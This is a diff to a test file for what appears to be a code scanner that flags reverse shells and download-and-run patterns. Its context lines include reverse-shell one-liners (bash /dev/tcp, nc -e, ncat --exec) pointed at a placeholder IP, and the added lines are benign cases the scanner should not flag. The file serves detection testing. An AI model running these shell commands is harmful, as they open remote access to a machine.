@@ -65,6 +65,10 @@ test('shells for others', () => {
     'cmd = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"',
   );
   findsCommand('PYS-NET-008', 'nc -e /bin/sh 203.0.113.5 4444', 'ncat 203.0.113.5 4444 --exec cmd.exe');
+  silent(
+    'PYS-NET-008',
+    'import socket, subprocess\na, b = socket.socketpair()\nsubprocess.Popen(args, stdin=a)',
+  );
   silentCommand('PYS-NET-008', 'nc -zv db.corp.local 5432', 'echo > /dev/null');
 });
 
@@ -81,6 +85,7 @@ test('programs that are downloaded and started', () => {
     'PYS-NET-016',
     'import requests, os\nopen("rates.xlsx", "wb").write(requests.get(u).content)\nos.startfile("rates.xlsx")',
     'import requests, subprocess\nopen("a.csv", "wb").write(requests.get(u).content)\nsubprocess.run(["import.exe", "--now"])',
+    'import requests, os\nos.write(1, requests.get(u).content)\nprint(os.path.exists(requests.get(u).text))',
     'import requests, subprocess\nrequests.get(u)\nsubprocess.run(["git", "pull"])',
   );
 });
